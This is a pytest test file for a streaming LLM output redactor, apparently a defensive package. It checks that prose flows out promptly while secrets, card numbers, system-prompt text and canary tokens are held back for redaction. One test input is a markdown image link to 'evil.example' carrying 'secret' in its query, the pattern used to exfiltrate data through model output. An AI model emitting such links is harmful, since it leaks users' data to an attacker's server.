"""The early hold releases prose within a few words, holds secrets whole, and
stays bounded and linear. Everything is measured in characters, never time."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from holdback_corpus import JWT, PEM, PROSE, SYSTEM_PROMPT

from langchain_mistral_secure.detection.engine import Finding, detect_all
from langchain_mistral_secure.redactor import DEFAULT_MAX_HOLD, OutputRedactor

BENIGN = (PROSE * 50)[:2000]


def first_output_at(redactor: OutputRedactor, text: str, size: int) -> int:
    """Input characters consumed when the first output chunk came out."""
    consumed = 0

    def source() -> Iterator[str]:
        nonlocal consumed
        for start in range(0, len(text), size):
            consumed = min(len(text), start + size)
            yield text[start : start + size]

    for chunk in redactor.transform(source()):
        if chunk:
            return consumed
    return consumed


@pytest.mark.parametrize(
    ("holdback", "low", "high"),
    [("early", 1, 63), ("fixed", DEFAULT_MAX_HOLD, 2 * DEFAULT_MAX_HOLD)],
)
def test_time_to_first_text_in_characters(holdback: str, low: int, high: int) -> None:
    redactor = OutputRedactor(holdback=holdback)  # type: ignore[arg-type]
    assert low <= first_output_at(redactor, BENIGN, 4) <= high


def test_prose_flows_a_few_words_behind() -> None:
    # At every step the held text is at most a couple of words plus a step.
    window = OutputRedactor().window()
    out: list[str] = []
    for start in range(0, len(BENIGN), 4):
        out.append(window.push(BENIGN[start : start + 4]))
        assert window.pending <= 64
    out.append(window.flush())
    assert "".join(out) == BENIGN
    assert sum(1 for piece in out if piece) >= len(BENIGN) // 32


def test_short_answer_comes_in_several_chunks() -> None:
    text = "Sure, here is a short answer about the weather in Paris today. " * 3
    early = [
        c
        for c in OutputRedactor().transform(
            iter(text[i : i + 4] for i in range(0, len(text), 4))
        )
        if c
    ]
    fixed_redactor = OutputRedactor(holdback="fixed")
    fixed = [
        c
        for c in fixed_redactor.transform(
            iter(text[i : i + 4] for i in range(0, len(text), 4))
        )
        if c
    ]
    assert "".join(early) == "".join(fixed) == text
    assert len(fixed) == 1
    assert len(early) >= 5


@pytest.mark.parametrize(
    ("secret", "probe"),
    [(JWT, JWT[:40]), (PEM, "MIIEowIBAAKCAQEA"), (PEM, "-----BEGIN RSA")],
    ids=["jwt", "pem-body", "pem-header"],
)
@pytest.mark.parametrize("size", [1, 4, 13])
def test_jwt_and_pem_are_held_whole(secret: str, probe: str, size: int) -> None:
    text = PROSE * 3 + "token: " + secret + " end. " + PROSE * 3
    redactor = OutputRedactor()
    pieces = [text[i : i + size] for i in range(0, len(text), size)]
    emitted = list(redactor.transform(iter(pieces)))
    assert "".join(emitted) == redactor.invoke(text)
    assert all(probe not in piece for piece in emitted)
    # Prose before the secret was released before the secret was complete.
    assert emitted[0]
    assert len(emitted) > 3


@pytest.mark.parametrize(
    ("head", "candidate", "tail"),
    [
        ("card 4111 1111 1111", "4111", " 1111 thanks"),
        ("call +33 1 42 68", "call", " 53 00 today"),
        ("IBAN GB82 WEST 1234 5698", "IBAN", " 7654 32 please"),
        ("password = 'correct horse", "'correct", " battery' ok"),
        ("see ![chart](https://evil.example/?q=", "![chart]", "secret) ok"),
        ("you are a careful assistant for acme support never", "you", " reveal it"),
        ("c a n a r y 7 f 3 a", "c a n", " 9 b 2 1 c 4 ok"),
    ],
    ids=["card", "phone", "iban", "quoted", "image", "prompt", "canary"],
)
def test_open_candidates_are_held_from_where_they_start(
    head: str, candidate: str, tail: str
) -> None:
    redactor = OutputRedactor(
        canaries=["canary-7f3a9b21c4"], system_prompt=SYSTEM_PROMPT
    )
    window = redactor.window()
    before = PROSE * 2 + head[: head.index(candidate)]
    released = window.push(PROSE * 2 + head)
    # Prose before the candidate may go, nothing from where it starts.
    assert before.startswith(released)
    assert PROSE in released
    rest = window.push(tail) + window.flush()
    assert released + rest == redactor.invoke(PROSE * 2 + head + tail)


def test_a_candidate_is_held_at_most_the_cap() -> None:
    # An opening "[" whose image decision never comes: released after the cap.
    redactor = OutputRedactor(max_hold=128)
    window = redactor.window()
    text = "see [" + PROSE * 40
    peak = 0
    out: list[str] = []
    for start in range(0, len(text), 4):
        out.append(window.push(text[start : start + 4]))
        peak = max(peak, window.pending)
    out.append(window.flush())
    assert "".join(out) == redactor.invoke(text)
    assert peak <= 128 + 128 // 4 + 64


def test_work_is_linear_in_the_stream() -> None:
    # Characters handed to the detectors per character streamed stays flat,
    # for prose and for an open candidate that keeps growing (a long token).
    redactor = OutputRedactor()
    scanned = 0

    def counting(text: str) -> list[Finding]:
        nonlocal scanned
        scanned += len(text)
        return detect_all(text, redactor.active_detectors)

    def ratio(text: str) -> float:
        nonlocal scanned
        scanned = 0
        window = redactor.window()
        window._detect = counting
        for start in range(0, len(text), 4):
            window.push(text[start : start + 4])
        window.flush()
        return scanned / len(text)

    for unit in (PROSE, "Zq7Lx2Vb9Nm4Kt8Rw3Yp6Hs1Jd5Fg0C"):  # pragma: allowlist secret
        small, large = ratio(unit * 100), ratio(unit * 400)
        assert large <= 1.5 * small + 1
        assert large < 16


@pytest.mark.parametrize("holdback", ["early", "fixed"])
def test_padding_past_the_cap_is_not_rescanned_per_piece(holdback: str) -> None:
    # Zero-width padding is held whole (it may hide the start of a match), so
    # past the hard cap the window holds more than the cap: each scan must then
    # wait for a share of what is held, not run again on every piece (that was
    # a cap-sized rescan per 64 characters, quadratic-looking in practice).
    redactor = OutputRedactor(holdback=holdback)  # type: ignore[arg-type]
    scanned = 0

    def counting(text: str) -> list[Finding]:
        nonlocal scanned
        scanned += len(text)
        return detect_all(text, redactor.active_detectors)

    window = redactor.window()
    window._detect = counting
    text = "\u200b" * (window.hard_cap + 16_384)
    out = [window.push(text[i : i + 64]) for i in range(0, len(text), 64)]
    out.append(window.flush())
    assert "".join(out) == redactor.invoke(text)
    assert scanned / len(text) < 16
